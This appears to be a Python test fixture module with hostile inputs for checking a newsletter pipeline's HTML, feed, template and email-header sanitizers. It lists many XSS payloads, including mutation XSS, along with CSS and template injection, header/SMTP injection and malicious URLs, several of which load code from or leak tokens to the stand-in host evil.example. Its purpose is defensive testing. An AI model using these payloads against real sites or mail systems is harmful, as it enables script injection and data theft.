"""Markup and addresses that mean harm. Each would call ``hurt()``, or ask the host evil.example.

Written for the parsers on a story's way: lexbor (text), feedparser and lxml
(feeds), Jinja and premailer (letters), the header encoder, and what fills a
reader's slots. Most shapes are those of the OWASP filter-evasion list and of
published mutation XSS (markup that is harmless until it is parsed again).
"""

HURT = "hurt()"
_LONG = "A" * 70_000

SCRIPTS = [
    "<script>hurt()</script>",
    "<SCRIPT SRC=//evil.example/hurt.js></SCRIPT>",
    "<scr<script>ipt>hurt()</scr</script>ipt>",
    "<script\x0churt>hurt()</script\n>",
    "<script/hurt src=data:text/javascript,hurt()></script>",
    "<script type=module>import 'https://evil.example/hurt.js'</script>",
    "<\x00script>hurt()</script>",
    "\u202e<script>hurt()</script>",
    "<![CDATA[<script>hurt()</script>",
    "--><script>hurt()</script><!--",
    "<!--><script>hurt()</script>-->",
    "<!--[if mso]><script>hurt()</script><![endif]-->",
    "</title><script>hurt()</script>",
    "</style><script>hurt()</script>",
    "</textarea><script>hurt()</script>",
    "'\"><script>hurt()</script>",
    "<?xml-stylesheet href='javascript:hurt()'?><script>hurt()</script>",
]
HANDLERS = [
    "<img src=x onerror=hurt()>",
    "<img src='x' onerror='hurt()'>",
    "<img/src=x/onerror=hurt()>",
    "<img src=x:x\tonerror\n=\nhurt()>",
    "<img src=\"x`y\" `onerror=hurt()`>",
    f"<img alt='{_LONG}' src=x onerror=hurt()>",
    f"<a title='{_LONG}' href=javascript:hurt()>x</a>",
    "<body onload=hurt()>",
    "<input autofocus onfocus=hurt()>",
    "<details open ontoggle=hurt()>x</details>",
    "<video autoplay><source onerror=hurt()></video>",
    "<audio src=x onerror=hurt()>",
    "<marquee onstart=hurt()>x</marquee>",
    "<p style='animation:x' onanimationstart=hurt()>x</p>",
    "\" onmouseover=hurt() x=\"",
    "' onmouseover='hurt()",
    "`onmouseover=hurt()`",
    "x\" autofocus tabindex=1 onfocus=hurt() y=\"",
]  # fmt: skip
ADDRESSED = [
    "<a href='javascript:hurt()'>x</a>",
    "<a href='JaVa&#10;ScRiPt:hurt()'>x</a>",
    "<a href=' &#14; javascript:hurt()'>x</a>",
    "<a href='java&Tab;script&colon;hurt&lpar;&rpar;'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hurt()'>x</a>",
    "<a href='\u0001javascript:hurt()'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5odXJ0KCk8L3NjcmlwdD4='>x</a>",
    "<a href='data:text/html,<script>hurt()</script>'>x</a>",
    "<a href='vbscript:hurt()'>x</a>",
    "<iframe src='javascript:hurt()'></iframe>",
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    "<object data='javascript:hurt()'></object>",
    "<embed src='javascript:hurt()'>",
    "<form action='javascript:hurt()'><button autofocus>x</button></form>",
    "<button formaction=javascript:hurt()>x</button>",
    "<base href='https://evil.example/hurt/'>",
    "<link rel=stylesheet href='https://evil.example/hurt.css'>",
    "<link rel=prefetch href='https://evil.example/hurt'>",
    "<meta http-equiv=refresh content='0;url=javascript:hurt()'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/hurt'>",
    "<a ping=https://evil.example/hurt href=https://paper.example/>x</a>",
]
FOREIGN = [
    "<svg onload=hurt()>",
    "<svg><script>hurt()</script></svg>",
    "<svg><script href='data:,hurt()'/></svg>",
    "<svg><a xlink:href='javascript:hurt()'><text>x</text></a></svg>",
    "<svg><animate onbegin=hurt() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:hurt()></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hurt()>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=hurt()></foreignObject></svg>",
    "<math><a xlink:href='javascript:hurt()'>x</a></math>",
    "<math href='javascript:hurt()'>x</math>",
]
MUTATING = [
    "<math><mtext><table><mglyph><style><img src=x onerror=hurt()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hurt()>",
    "<noscript><p title='</noscript><img src=x onerror=hurt()>'>",
    "<template><script>hurt()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=hurt()></template>",
    "<svg></p><style><a title='</style><img src=x onerror=hurt()>'>",
    "<style><!--</style><img src=x onerror=hurt()>--></style>",
    "<!--!><img src=x onerror=hurt()>-->",
    "<xmp><p title='</xmp><img src=x onerror=hurt()>'>",
    "<noembed><p title='</noembed><img src=x onerror=hurt()>'>",
    "<select><option><style></select><img src=x onerror=hurt()></style>",
    "<table><td><a title='</table><img src=x onerror=hurt()>'>",
    "<plaintext><script>hurt()</script>",
    "&lt;script&gt;hurt()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hurt()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;hurt()&#60;/script&#62;",
    "&lt;img src=x onerror&equals;hurt()&gt;",
    "<p>text</p\n/><img src=x onerror=hurt()>",
]
STYLES = [
    "<style>*{background:url(javascript:hurt())}</style>",
    "<style>@import 'https://evil.example/hurt.css';</style>",
    "<style>a[href*=unsubscribe]{background:url(https://evil.example/hurt)}</style>",
    "<p style='background:url(javascript:hurt());behavior:url(hurt.htc)'>x</p>",
    "<p style='width:expression(hurt())'>x</p>",
    "<p style='background:u\\72l(https://evil.example/hurt)'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/hurt.xml#x)'>x</p>",
    "}</style><style>*{background:url(https://evil.example/hurt)}",
]
TEMPLATES = [
    "{{ hurt() }}{% include 'x' %}${hurt()}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} hurt()",
    "{% raw %}{{ config }} hurt() {# #}",
    "{headline} {newsletter.__class__} {0} hurt() %s %(x)s",
    "<%= hurt() %><? hurt() ?>",
]
HEADERS = [
    "hurt()\r\nBcc: hurt@evil.example",
    "hurt()\nX-Hurt: 1\n\n<script>hurt()</script>",
    "hurt()\rX-Hurt: 1",
    "hurt()\u2028X-Hurt: 1\u2029X-Hurt: 2\x85X-Hurt: 3\x0bX-Hurt: 4",
    "hurt()%0d%0aX-Hurt: 1",
    "=?utf-8?q?hurt()=0D=0AX-Hurt:_1?=",
    "hurt()\r\n.\r\nMAIL FROM:<hurt@evil.example>",
    "hurt()&#13;&#10;X-Hurt: 1",
    "\u202ehurt()\u2066 exe.fdp\u2069 \u200bhurt\u200e\u061c",
    "hurt()\x00\x1b[2J\x07\x08",
]
# Marks of our own letters: what fills a reader's slots must not fill these.
MARKS = [
    "hurt() XXREADERUNSUBSCRIBEXX XXREADERPREFERENCESXX",
    "hurt() XXREADERUNSUBSCRIBEXXREADERUNSUBSCRIBEXX",
    "hurt() XX<!---->READERUNSUBSCRIBEXX XX&#82;EADERPREFERENCESXX",
    "<!--reader-->hurt()<!--/reader-->",
    "hurt() __XXREADERUNSUBSCRIBEXX__ https://evil.example/?t=XXREADERPREFERENCESXX",
]
PAYLOADS = [
    *(*SCRIPTS, *HANDLERS, *ADDRESSED, *FOREIGN, *MUTATING, *STYLES, *TEMPLATES, *HEADERS, *MARKS)
]

# For pictures, links, authors' pages: whatever a source may give as an address.
ADDRESSES = [
    "javascript:hurt()",
    "java\tscript:hurt()",
    "\x01javascript:hurt()",
    "data:text/html,<script>hurt()</script>",
    "data:image/svg+xml,<svg onload=hurt()>",
    "vbscript:hurt()",
    "file:///etc/hurt",
    "blob:https://evil.example/hurt",
    "view-source:javascript:hurt()",
    "//hurt",
    "https://evil.example/\"onerror=hurt()",
    "https://evil.example/'><script>hurt()</script>",
    "https://evil.example/hurt\r\nX-Hurt: 1",
    "HTTPS://evil.example/<hurt>",
    "https://evil.example/hurt?token=XXREADERUNSUBSCRIBEXX",
    "https://XXREADERPREFERENCESXX.evil.example/hurt",
    "https://evil.example\\@paper.example/hurt",
    "https://user:hurt@evil.example/",
    f"https://evil.example/{'hurt' * 20_000}",
]  # fmt: skip
